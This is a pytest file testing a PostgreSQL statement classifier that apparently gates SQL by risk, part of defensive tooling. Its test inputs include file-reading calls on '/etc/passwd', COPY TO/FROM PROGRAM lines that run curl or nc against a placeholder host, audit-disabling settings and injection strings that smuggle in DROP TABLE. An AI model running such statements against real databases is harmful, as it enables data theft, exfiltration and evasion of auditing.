"""PostgreSQL classification (app.sql.classify_postgres): kinds, facts, bypass attempts."""
from __future__ import annotations

import statistics
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.sql import Statement, classify_postgres
from app.types import KINDS


def one(sql: str) -> Statement:
    statements = classify_postgres(sql)
    assert len(statements) == 1, statements
    return statements[0]


KIND_CASES = [
    # read
    ("SELECT 1", "read"),
    ("select id, name from users where id = 42", "read"),
    ("SELECT * FROM t FOR UPDATE", "read"),
    ("SELECT * FROM t FOR SHARE SKIP LOCKED", "read"),
    ("VALUES (1), (2)", "read"),
    ("TABLE t", "read"),
    ("SHOW search_path", "read"),
    ("SHOW ALL", "read"),
    ("EXPLAIN SELECT * FROM t", "read"),
    ("EXPLAIN DELETE FROM t", "read"),
    ("EXPLAIN (ANALYZE off) DELETE FROM t", "read"),
    ("EXPLAIN (ANALYZE false) UPDATE t SET a = 1", "read"),
    ("EXPLAIN ANALYZE SELECT * FROM t", "read"),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "read"),
    ("FETCH 10 FROM c", "read"),
    ("CLOSE c", "read"),
    ("LISTEN chan", "read"),
    ("UNLISTEN *", "read"),
    ("COPY t TO STDOUT", "read"),
    ("COPY (SELECT a FROM t) TO STDOUT WITH (FORMAT csv)", "read"),
    ("PREPARE q AS SELECT * FROM t WHERE id = $1", "read"),
    ("WITH x AS (SELECT 1) SELECT * FROM x", "read"),
    ("SELECT * FROM a UNION ALL SELECT * FROM b", "read"),
    ("SELECT current_setting('search_path')", "read"),
    # tcl
    ("BEGIN", "tcl"),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "tcl"),
    ("COMMIT", "tcl"),
    ("ROLLBACK", "tcl"),
    ("SAVEPOINT a", "tcl"),
    ("RELEASE SAVEPOINT a", "tcl"),
    ("ROLLBACK TO SAVEPOINT a", "tcl"),
    ("PREPARE TRANSACTION 'x'", "tcl"),
    ("SET TRANSACTION ISOLATION LEVEL READ COMMITTED", "tcl"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "tcl"),
    ("SET search_path = app, public", "tcl"),
    ("SET LOCAL statement_timeout = 5000", "tcl"),
    ("SET TIME ZONE 'UTC'", "tcl"),
    ("SET client_encoding = 'UTF8'", "tcl"),
    ("SET NAMES 'utf-8'", "tcl"),
    ("RESET search_path", "tcl"),
    ("RESET ALL", "tcl"),
    ("SET x.y TO DEFAULT", "tcl"),
    ("DISCARD PLANS", "tcl"),
    ("DEALLOCATE ALL", "tcl"),
    ("DEALLOCATE q", "tcl"),
    ("SET CONSTRAINTS ALL DEFERRED", "tcl"),
    ("SELECT pg_catalog.set_config('search_path', '', false)", "tcl"),
    # write
    ("INSERT INTO t VALUES (1)", "write"),
    ("INSERT INTO t SELECT * FROM u", "write"),
    ("INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "write"),
    ("UPDATE t SET a = 1 WHERE id = 2", "write"),
    ("DELETE FROM t WHERE id = 2", "write"),
    ("DELETE FROM t USING u WHERE t.a = u.a", "write"),
    ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "write"),
    ("COPY t FROM STDIN", "write"),
    ("COPY t (a, b) FROM STDIN WITH (FORMAT csv)", "write"),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "write"),
    ("NOTIFY chan, 'x'", "write"),
    ("REFRESH MATERIALIZED VIEW mv", "write"),
    ("SELECT nextval('s')", "write"),
    ("SELECT setval('s', 1)", "write"),
    ("SELECT pg_notify('c', 'x')", "write"),
    ("SELECT lo_unlink(42)", "write"),
    ("EXPLAIN ANALYZE DELETE FROM t", "write"),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "write"),
    ("EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)", "write"),
    ("EXPLAIN (ANALYZE 1) DELETE FROM t", "write"),
    ("EXPLAIN (ANALYZE 0) DELETE FROM t", "write"),  # numbers never lower a kind
    ("PREPARE p AS DELETE FROM t WHERE id = $1", "write"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "write"),
    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i", "write"),
    ("SELECT * FROM (SELECT 1) s WHERE EXISTS (SELECT nextval('q'))", "write"),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "write"),
    ("DECLARE c CURSOR FOR SELECT nextval('s')", "write"),
    # ddl
    ("CREATE TABLE t (a int)", "ddl"),
    ("create temp table t (a int)", "ddl"),
    ("ALTER TABLE t ADD COLUMN b int", "ddl"),
    ("ALTER TABLE t RENAME TO u", "ddl"),
    ("DROP TABLE t", "ddl"),
    ("DROP TABLE IF EXISTS a, b CASCADE", "ddl"),
    ("TRUNCATE t", "ddl"),
    ("TRUNCATE TABLE a, b RESTART IDENTITY", "ddl"),
    ("COMMENT ON TABLE t IS 'x'", "ddl"),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", "ddl"),
    ("CREATE VIEW v AS SELECT * FROM t", "ddl"),
    ("CREATE MATERIALIZED VIEW mv AS SELECT 1", "ddl"),
    ("CREATE TABLE n AS SELECT * FROM t", "ddl"),
    ("SELECT * INTO newt FROM t", "ddl"),
    ("CREATE SCHEMA s", "ddl"),
    ("DROP SCHEMA s CASCADE", "ddl"),
    ("CREATE SEQUENCE s", "ddl"),
    ("CREATE TYPE mood AS ENUM ('a', 'b')", "ddl"),
    ("CREATE DOMAIN d AS int CHECK (VALUE > 0)", "ddl"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "ddl"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$BEGIN RETURN 1; END$$", "ddl"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", "ddl"),
    ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "ddl"),
    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "ddl"),
    ("CREATE DATABASE d", "ddl"),
    ("DROP DATABASE d", "ddl"),
    ("ALTER SEQUENCE s RESTART", "ddl"),
    ("ALTER TABLE t ADD COLUMN b int DEFAULT nextval('s')", "ddl"),
    ("CREATE FOREIGN TABLE ft (a int) SERVER s", "ddl"),
    ("ALTER FUNCTION f() SET search_path = a", "ddl"),
    ("DROP FUNCTION f(int)", "ddl"),
    # dcl
    ("GRANT SELECT ON t TO u", "dcl"),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO u", "dcl"),
    ("REVOKE SELECT ON t FROM u", "dcl"),
    ("GRANT admin TO u", "dcl"),
    ("CREATE ROLE r LOGIN SUPERUSER", "dcl"),
    ("CREATE USER u WITH PASSWORD 'x'", "dcl"),
    ("ALTER USER u WITH PASSWORD 'x'", "dcl"),
    ("ALTER ROLE r SET search_path = a", "dcl"),
    ("ALTER ROLE r RENAME TO s", "dcl"),
    ("DROP ROLE r", "dcl"),
    ("DROP USER IF EXISTS u", "dcl"),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO u", "dcl"),
    ("REASSIGN OWNED BY a TO b", "dcl"),
    ("DROP OWNED BY a", "dcl"),
    ("ALTER TABLE t OWNER TO r", "dcl"),
    ("ALTER SCHEMA s OWNER TO r", "dcl"),
    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "dcl"),
    ("ALTER TABLE t NO FORCE ROW LEVEL SECURITY", "dcl"),
    ("CREATE POLICY p ON t USING (true)", "dcl"),
    ("DROP POLICY p ON t", "dcl"),
    ("SECURITY LABEL ON TABLE t IS 'x'", "dcl"),
    ("SET ROLE admin", "dcl"),
    ("SET LOCAL ROLE admin", "dcl"),
    ("RESET ROLE", "dcl"),
    ("SET SESSION AUTHORIZATION postgres", "dcl"),
    ("DISCARD ALL", "dcl"),
    ("SELECT set_config('role', 'admin', false)", "dcl"),
    ("CREATE SCHEMA s CREATE TABLE t (a int) GRANT SELECT ON t TO u", "dcl"),
    # admin
    ("ALTER SYSTEM SET work_mem = '1GB'", "admin"),
    ("ALTER SYSTEM RESET ALL", "admin"),
    ("DO $$ BEGIN PERFORM 1; END $$", "admin"),
    ("DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "admin"),
    ("CALL proc(1)", "admin"),
    ("EXECUTE p(1)", "admin"),
    ("LOAD 'auto_explain'", "admin"),
    ("COPY t FROM PROGRAM 'curl http://x'", "admin"),
    ("COPY (SELECT * FROM t) TO PROGRAM 'nc x 1'", "admin"),
    ("COPY t TO '/tmp/out.csv'", "admin"),
    ("COPY t FROM '/etc/passwd'", "admin"),
    ("VACUUM t", "admin"),
    ("VACUUM FULL", "admin"),
    ("ANALYZE t", "admin"),
    ("CLUSTER t USING i", "admin"),
    ("CHECKPOINT", "admin"),
    ("REINDEX TABLE t", "admin"),
    ("CREATE EXTENSION dblink", "admin"),
    ("ALTER EXTENSION x UPDATE", "admin"),
    ("DROP EXTENSION x", "admin"),
    ("CREATE LANGUAGE plpython3u", "admin"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'f'", "admin"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", "admin"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT pg_terminate_backend(1) $$",
     "admin"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC SELECT pg_reload_conf(); END",
     "admin"),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "admin"),
    ("CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'x')", "admin"),
    ("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p", "admin"),
    ("CREATE PUBLICATION p FOR ALL TABLES", "admin"),
    ("CREATE TABLESPACE ts LOCATION '/tmp'", "admin"),
    ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", "admin"),
    ("DROP EVENT TRIGGER e", "admin"),
    ("CREATE ACCESS METHOD am TYPE TABLE HANDLER h", "admin"),
    ("SELECT pg_terminate_backend(123)", "admin"),
    ("select PG_CANCEL_BACKEND(pid) from pg_stat_activity", "admin"),
    ("SELECT pg_catalog.pg_reload_conf()", "admin"),
    ("SELECT pg_read_file('/etc/passwd')", "admin"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "admin"),
    ("SELECT * FROM pg_ls_dir('.')", "admin"),
    ("SELECT lo_import('/etc/passwd')", "admin"),
    ("SELECT lo_export(1, '/tmp/x')", "admin"),
    ("SELECT * FROM dblink('host=x', 'SELECT 1') AS r(a int)", "admin"),
    ("SELECT dblink_exec('x', 'DROP TABLE t')", "admin"),
    ("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "admin"),
    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "admin"),
    ("SELECT pg_stat_reset()", "admin"),
    ("SELECT set_config(name, 'x', false) FROM t", "admin"),
    ("SELECT set_config('session_replication_role', 'replica', false)", "admin"),
    ("SELECT set_config('client_encoding', 'SJIS', false)", "admin"),
    ("SET standard_conforming_strings = off", "admin"),
    ("SET backslash_quote = on", "admin"),
    ("SET client_encoding = 'SJIS'", "admin"),
    ("SET NAMES 'BIG5'", "admin"),
    ("SET client_encoding = 'gb18030'", "admin"),
    ("SET session_replication_role = replica", "admin"),
    ("SET log_statement = 'none'", "admin"),
    ("SET pgaudit.log = 'none'", "admin"),
    ("SET allow_system_table_mods = on", "admin"),
    ("ALTER DATABASE d SET client_encoding = 'SJIS'", "admin"),
    # the worst thing inside decides
    ("SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)",
     "admin"),
    ("SELECT f(x) FROM (SELECT pg_terminate_backend(pid) AS x FROM pg_stat_activity) s", "admin"),
    ("SELECT * FROM t1, LATERAL (SELECT pg_reload_conf()) x", "admin"),
    ("SELECT 1 UNION SELECT pg_rotate_logfile()::int", "admin"),
    ("SELECT coalesce(NULL, pg_terminate_backend(1))", "admin"),
    ("SELECT CASE WHEN true THEN pg_cancel_backend(1) END", "admin"),
    ("SELECT array_agg(x) FILTER (WHERE pg_terminate_backend(x)) FROM t", "admin"),
    ("INSERT INTO t SELECT * FROM u RETURNING (SELECT pg_terminate_backend(1))", "admin"),
    ("UPDATE t SET a = pg_read_file('/etc/passwd') WHERE id = 1", "admin"),
    ("WITH x AS (SELECT pg_terminate_backend(1)) SELECT * FROM x", "admin"),
    ("EXPLAIN SELECT pg_terminate_backend(1)", "admin"),
    ("PREPARE p AS SELECT pg_terminate_backend($1)", "admin"),
    ("DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')", "admin"),
    ("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", "admin"),
    ("CREATE TABLE t AS SELECT pg_read_file('/etc/passwd') AS c", "admin"),
    ("CREATE VIEW v AS SELECT pg_terminate_backend(1)", "admin"),
]


@pytest.mark.parametrize(("sql", "kind"), KIND_CASES)
def test_kind(sql: str, kind: str) -> None:
    assert one(sql).kind == kind


ATTRIBUTE_CASES = [
    ("UPDATE t SET a = 1", {"unbounded"}),
    ("DELETE FROM t", {"unbounded"}),
    ("DELETE FROM t WHERE true", {"unbounded"}),
    ("UPDATE t SET a = 1 WHERE 1 = 1", {"unbounded"}),
    ("DELETE FROM t WHERE $1", {"unbounded"}),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {"unbounded", "writing_cte"}),
    ("WITH d AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM d", {"writing_cte"}),
    ("EXPLAIN ANALYZE DELETE FROM t", {"unbounded"}),
    ("PREPARE p AS UPDATE t SET a = $1", {"unbounded"}),
    ("COPY t TO STDOUT", {"copy_to_stdout"}),
    ("COPY (SELECT * FROM t) TO STDOUT", {"copy_to_stdout"}),
    ("COPY t FROM STDIN", {"copy_from_stdin"}),
    ("COPY t FROM PROGRAM 'ls'", {"copy_program"}),
    ("COPY t TO PROGRAM 'gzip > /tmp/x'", {"copy_program"}),
    ("COPY t TO '/tmp/x'", {"copy_file"}),
    ("SELECT * INTO newt FROM t", {"select_into"}),
    ("DO $$ BEGIN NULL; END $$", {"do_block", "reparse"}),
    ("EXECUTE p", {"execute_prepared", "unknown"}),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'f'", {"untrusted_language"}),
    ("select from", {"unparseable"}),
    ("SELECT 1 \x00; DROP TABLE t", {"unparseable"}),
]


@pytest.mark.parametrize(("sql", "attributes"), ATTRIBUTE_CASES)
def test_attributes(sql: str, attributes: set[str]) -> None:
    assert one(sql).attributes == attributes


@pytest.mark.parametrize("sql", [
    "UPDATE t SET a = 1 WHERE id = 2",
    "DELETE FROM t WHERE id IN (SELECT id FROM u)",
    "DELETE FROM t WHERE EXISTS (SELECT 1)",
    "DELETE FROM t WHERE now() > '2020-01-01'",
    "UPDATE t SET a = 1 WHERE CURRENT OF c",
    "EXPLAIN DELETE FROM t",  # not run, so not unbounded
    "INSERT INTO t VALUES (1)",
    "SELECT * FROM t",
])
def test_bounded(sql: str) -> None:
    assert "unbounded" not in one(sql).attributes


BYPASS_CASES = [
    ("/* x */ DrOp/**/TABLE t", "ddl"),
    ("-- c\nDROP TABLE t", "ddl"),
    ("DROP -- c\n TABLE t", "ddl"),
    ("/* nested /* comment */ still */ DROP TABLE t", "ddl"),
    ("dRoP tAbLe T", "ddl"),
    ("\n\t  DROP\n\tTABLE\n t  ", "ddl"),
    ('DROP TABLE "T"', "ddl"),
    ('DROP TABLE U&"\\0074"', "ddl"),
    ('SELECT U&"\\0070g_terminate_backend"(1)', "admin"),
    ('SELECT "pg_terminate_backend"(1)', "admin"),
    ("SELECT pg_catalog . pg_terminate_backend(1)", "admin"),
    ("SELECT $$ ; DROP TABLE t $$", "read"),
    ("SELECT $tag$ ; DROP TABLE t $tag$", "read"),
    ("SELECT 'x; DROP TABLE t'", "read"),
    ("SELECT E'a\\'; DROP TABLE t; --'", "read"),
    ('SELECT 1 AS "; DROP TABLE t"', "read"),
    ("GrAnT sElEcT oN t To u", "dcl"),
    ("/**/DO/**/$$ BEGIN NULL; END $$", "admin"),
    ("(SELECT pg_terminate_backend(1))", "admin"),
    ("SELECT 1 \x00; DROP TABLE t", "admin"),
    ("SELECT '\ud800'", "admin"),  # not encodable: the server cannot have meant it
    ("SELECT 1; DROP", "admin"),  # one bad statement spoils the whole message
]


@pytest.mark.parametrize(("sql", "kind"), BYPASS_CASES)
def test_bypass_attempts(sql: str, kind: str) -> None:
    assert max((s.kind for s in classify_postgres(sql)), key=KINDS.index) == kind


def test_standard_conforming_backslash_splits_like_the_server() -> None:
    # With standard_conforming_strings on (the default, and we deny turning it off)
    # a backslash does not escape a quote, so the server runs the DROP.
    statements = classify_postgres("SELECT 'a\\'; DROP TABLE t; --'")
    assert [s.kind for s in statements] == ["read", "ddl"]
    assert statements[1].tables == ("t",)


def test_multi_statement_split_and_texts() -> None:
    sql = "/* lead */ SELECT 1 ;\n  DROP TABLE public.t -- bye\n; ; select 'é'"
    statements = classify_postgres(sql)
    assert [s.kind for s in statements] == ["read", "ddl", "read"]
    assert [s.text for s in statements] == ["SELECT 1", "DROP TABLE public.t -- bye", "select 'é'"]
    assert all("multi_statement" in s.attributes for s in statements)
    assert statements[1].tables == ("public.t",)


def test_single_statement_is_not_multi() -> None:
    assert "multi_statement" not in one("SELECT 1;").attributes


@pytest.mark.parametrize("sql", ["", "   ", "-- only a comment", "/* c */", ";", " ; ;; "])
def test_empty(sql: str) -> None:
    assert classify_postgres(sql) == []


@pytest.mark.parametrize("sql", [
    "garbage blah", "SELECT FROM WHERE (", "DROP", "SELECT 'unterminated", "SELECT $$x",
    "'", "((((", "\\d users", "SELECT * FROM t WHERE a = = 1",
])
def test_garbage_fails_closed(sql: str) -> None:
    statement = one(sql)
    assert statement.kind == "admin"
    assert statement.attributes == {"unparseable"}
    assert statement.text == sql.strip()
    assert statement.fingerprint


TARGET_CASES = [
    ("SELECT * FROM Users u JOIN app.Orders o ON o.uid = u.id", ("users", "app.orders"), ()),
    ('SELECT * FROM "MixedCase"', ("mixedcase",), ()),
    ("SELECT * FROM db.s.t", ("db.s.t",), ()),
    ("WITH x AS (SELECT * FROM base) SELECT * FROM x, s.x", ("base", "s.x"), ()),
    ("INSERT INTO t SELECT * FROM u", ("t", "u"), ()),
    ("DROP TABLE public.a, b", ("public.a", "b"), ()),
    ("DROP VIEW v", ("v",), ()),
    ("TRUNCATE a, s.b", ("a", "s.b"), ()),
    ("SELECT * INTO newt FROM t", ("newt", "t"), ()),
    ("SELECT Lower(name), pg_catalog.upper(x) FROM t", ("t",), ("lower", "pg_catalog.upper")),
    ("SELECT count(*) FROM (SELECT f(1) FROM s) x", ("s",), ("count", "f")),
    ("SELECT 1", (), ()),
    ("CALL Proc(1)", (), ("proc",)),
    ("GRANT SELECT ON t TO u", ("t",), ()),
]


@pytest.mark.parametrize(("sql", "tables", "functions"), TARGET_CASES)
def test_targets(sql: str, tables: tuple[str, ...], functions: tuple[str, ...]) -> None:
    statement = one(sql)
    assert statement.tables == tables
    assert statement.functions == functions


def test_statement_is_frozen_value() -> None:
    statement = one("SELECT 1")
    with pytest.raises(AttributeError):
        statement.kind = "write"  # type: ignore[misc]
    assert statement == one("SELECT 1")


@pytest.mark.parametrize(("a", "b"), [
    ("SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE id = 999"),
    ("select * from t where name = 'bob'", "SELECT *   FROM t WHERE name = 'alice'"),
    ("UPDATE t SET a = 1 WHERE id = 2", "update t set a = 3 where id = 4"),
    ("SELECT 1", "SELECT 2"),
    ("SELECT 1", "SELECT 1; SELECT 2"),  # neighbours do not change a statement's shape
])
def test_fingerprint_equal_for_equal_shapes(a: str, b: str) -> None:
    assert classify_postgres(a)[0].fingerprint == classify_postgres(b)[0].fingerprint


@pytest.mark.parametrize(("a", "b"), [
    ("SELECT * FROM t WHERE id = 1", "SELECT * FROM u WHERE id = 1"),
    ("SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE name = 1"),
    ("SELECT * FROM t", "DELETE FROM t"),
    ("DELETE FROM t WHERE id = 1", "DELETE FROM t"),
    ("SELECT 1", "SELECT pg_terminate_backend(1)"),
    ("garbage one", "garbage two"),
])
def test_fingerprint_differs_for_different_shapes(a: str, b: str) -> None:
    assert one(a).fingerprint != one(b).fingerprint


def test_cached_results_are_not_shared_lists() -> None:
    first = classify_postgres("SELECT 1; SELECT 2")
    first.clear()
    assert len(classify_postgres("SELECT 1; SELECT 2")) == 2


def test_long_text_is_classified_without_the_cache() -> None:
    sql = "INSERT INTO t VALUES " + ", ".join(f"({i}, 'x')" for i in range(3000))
    statement = one(sql)
    assert statement.kind == "write"
    assert statement.tables == ("t",)


def test_fast_enough() -> None:
    from app.sql.postgres import _classify

    timings = []
    for i in range(200):
        start = time.perf_counter()
        _classify(f"SELECT id, name FROM users WHERE id = {i}")
        timings.append(time.perf_counter() - start)
    assert statistics.median(timings) < 0.001  # about 60 µs here; a wide margin for CI
    start = time.perf_counter()
    for _ in range(1000):
        classify_postgres("SELECT id, name FROM users WHERE id = 42")
    assert (time.perf_counter() - start) / 1000 < 0.0001  # cached


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.text())
def test_never_raises_on_any_text(sql: str) -> None:
    for statement in classify_postgres(sql):
        assert statement.kind in KINDS
        assert isinstance(statement.attributes, frozenset)
        assert statement.fingerprint


_WORDS = ["SELECT", "DROP", "TABLE", "t", "FROM", "WHERE", ";", "(", ")", "'", '"', "$$", "/*",
          "*/", "--", "\n", "DELETE", "INSERT", "INTO", "VALUES", "1", ",", "COPY", "TO", "STDOUT",
          "PROGRAM", "DO", "WITH", "AS", "pg_terminate_backend", "GRANT", "SET", "ROLE", "\\",
          "E'", "U&", "EXPLAIN", "ANALYZE", "EXECUTE", "PREPARE", "*", "=", " "]


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.lists(st.sampled_from(_WORDS), max_size=14).map(" ".join))
def test_never_raises_on_sql_like_text(sql: str) -> None:
    for statement in classify_postgres(sql):
        assert statement.kind in KINDS
        first = statement.text.split()[0].upper() if statement.text.split() else ""
        if first in ("DROP", "GRANT"):
            assert KINDS.index(statement.kind) >= KINDS.index("ddl"), statement
        if first in ("DELETE", "INSERT", "COPY", "DO"):
            assert statement.kind != "read" or statement.attributes & {"copy_to_stdout"}


_STATEMENTS = [
    ("SELECT * FROM t", "read"), ("BEGIN", "tcl"), ("DELETE FROM t WHERE id = 1", "write"),
    ("DROP TABLE t", "ddl"), ("GRANT SELECT ON t TO u", "dcl"), ("CHECKPOINT", "admin"),
    ("SELECT pg_terminate_backend(1)", "admin"), ("SET ROLE r", "dcl"),
    ("COPY t FROM STDIN", "write"),
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(_STATEMENTS), min_size=1, max_size=5),
       st.sampled_from([";", " ; ", ";\n", "; -- c\n", ";/* c */"]))
def test_multi_statement_kinds_match_single(parts: list[tuple[str, str]], sep: str) -> None:
    statements = classify_postgres(sep.join(sql for sql, _ in parts))
    assert [s.kind for s in statements] == [kind for _, kind in parts]
    assert [s.text for s in statements] == [sql for sql, _ in parts]
    assert all(("multi_statement" in s.attributes) == (len(parts) > 1) for s in statements)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(_STATEMENTS), st.sampled_from(["/**/", "/* x */", "\n--c\n", "\t"]))
def test_comments_between_tokens_change_nothing(case: tuple[str, str], filler: str) -> None:
    sql, kind = case
    assert one(sql.replace(" ", filler)).kind == kind


@pytest.mark.parametrize(("sql", "tables"), [
    # a CTE's name in FROM is the CTE ...
    ("WITH secrets AS (SELECT 1) SELECT * FROM secrets", ()),
    ("WITH s AS (SELECT * FROM t) SELECT * FROM s JOIN s.s ON true", ("t", "s.s")),
    # ... but a write target is always the table, and scope ends with the WITH
    ("WITH secrets AS (SELECT 1) INSERT INTO secrets SELECT * FROM secrets", ("secrets",)),
    ("WITH secrets AS (SELECT 1) UPDATE secrets SET a = 1 WHERE id = 1", ("secrets",)),
    ("WITH secrets AS (SELECT 1) DELETE FROM secrets WHERE id = 1", ("secrets",)),
    ("WITH secrets AS (SELECT 1) SELECT * INTO secrets FROM secrets", ("secrets",)),
    ("SELECT * FROM secrets WHERE a IN (WITH secrets AS (SELECT 1) SELECT * FROM secrets)",
     ("secrets",)),
    ("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) a, x", ("x",)),
    # a non-recursive CTE body does not see itself or later CTEs: those are real tables
    ("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", ("secrets",)),
    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", ("b",)),
    ("WITH b AS (SELECT 1), a AS (SELECT * FROM b) SELECT * FROM a", ()),
    ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", ()),
])
def test_cte_names_hide_only_what_they_shadow(sql: str, tables: tuple[str, ...]) -> None:
    assert one(sql).tables == tables


_NUMERIC = ["EXPLAIN (ANALYZE {n}) DELETE FROM t", "SELECT * FROM t WHERE id = {n}",
            "DELETE FROM t WHERE {n} = {n}", "SET statement_timeout = {n}", "FETCH {n} FROM c",
            "SELECT pg_terminate_backend({n})", "UPDATE t SET a = {n} WHERE id = {n}",
            "SELECT * FROM t LIMIT {n} OFFSET {n}", "SET client_encoding = {n}",
            "EXPLAIN (ANALYZE {n}, COSTS {n}) UPDATE t SET a = 1"]


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(_NUMERIC), st.integers(min_value=0, max_value=10**9))
def test_numbers_never_change_the_answer(template: str, n: int) -> None:
    # The relay shares one answer between texts that differ only in numbers. (The
    # fingerprint may differ: pglast keeps option values such as ANALYZE 1.)
    original, zeroed = one(template.format(n=n)), one(template.format(n=0))
    assert (original.kind, original.tables, original.attributes) == (
        zeroed.kind, zeroed.tables, zeroed.attributes)


# -- parse parity (issue 16): settings that change how the server reads later text --------

@pytest.mark.parametrize("sql", [
    "SET client_encoding = 'windows932'", "SET client_encoding TO 'S.JIS'", "SET NAMES 'big5 '",
    "SET client_encoding = 'Big-5'", "SET client_encoding TO mskanji", "SET client_encoding = 'win950'",
    "SET client_encoding = 'shift_jis_2004'", "SET client_encoding = 'UHC'", "SET client_encoding = 'johab'",
    "SET client_encoding = 'cp936'", "SET client_encoding TO 936", "SET client_encoding TO 'utf8', 'sjis'",
    "SELECT set_config('client_encoding', 'S.JIS', false)", "SELECT set_config('client_encoding', x, false) FROM t",
    "SELECT set_config('client_encoding', NULL, false)", "SELECT set_config(lower('CLIENT_ENCODING'), 'utf8', false)",
    "SET standard_conforming_strings = off", "SET standard_conforming_strings TO 0",
    "SET standard_conforming_strings TO DEFAULT", "RESET standard_conforming_strings",
    "SELECT set_config('standard_conforming_strings', 'on' || '', false)",
    "ALTER ROLE r SET standard_conforming_strings = off", "ALTER DATABASE d SET client_encoding = 'GBK'",
    "ALTER SYSTEM SET client_encoding = 'sjis'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET client_encoding = 'sjis' AS 'SELECT 1'",
])
def test_parser_divergence_is_flagged(sql: str) -> None:
    assert any("parser_divergence" in stmt.attributes for stmt in classify_postgres(sql)), sql


@pytest.mark.parametrize(("sql", "kind"), [
    ("SET client_encoding = 'UTF8'", "tcl"), ("SET client_encoding TO 'latin1'", "tcl"),
    ("SET NAMES 'ISO-8859-15'", "tcl"), ("SET client_encoding TO DEFAULT", "tcl"), ("RESET client_encoding", "tcl"),
    ("SET NAMES DEFAULT", "tcl"), ("RESET ALL", "tcl"), ("SELECT set_config('client_encoding', 'UTF8', false)", "tcl"),
    ("SET standard_conforming_strings = on", "admin"), ("DISCARD ALL", "dcl"),
])
def test_reading_changes_are_barriers_but_not_refused(sql: str, kind: str) -> None:
    (stmt,) = classify_postgres(sql)
    assert stmt.kind == kind and "reparse" in stmt.attributes and "parser_divergence" not in stmt.attributes


@pytest.mark.parametrize(("sql", "kind"), [
    ("EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t", "write"),
    ("EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM t", "read"),
    ("EXPLAIN (ANALYZE off, COSTS off, ANALYZE) UPDATE t SET a = 1", "write"),
    ("EXPLAIN (ANALYZE 'off', ANALYZE 'on') INSERT INTO t VALUES (1)", "write"),
    ("EXPLAIN (ANALYZE 1, ANALYZE 0) DELETE FROM t", "write"),  # numbers never lower a kind
    ("EXPLAIN (ANALYZE on, ANALYZE off) DELETE FROM t", "read"),
    ("EXPLAIN (ANALYZE, ANALYZE FALSE) CREATE TABLE x AS SELECT 1", "read"),
    ("EXPLAIN (FORMAT JSON, ANALYZE) CREATE TABLE x AS SELECT 1", "ddl"),
])
def test_repeated_explain_options_the_last_wins(sql: str, kind: str) -> None:
    assert classify_postgres(sql)[0].kind == kind
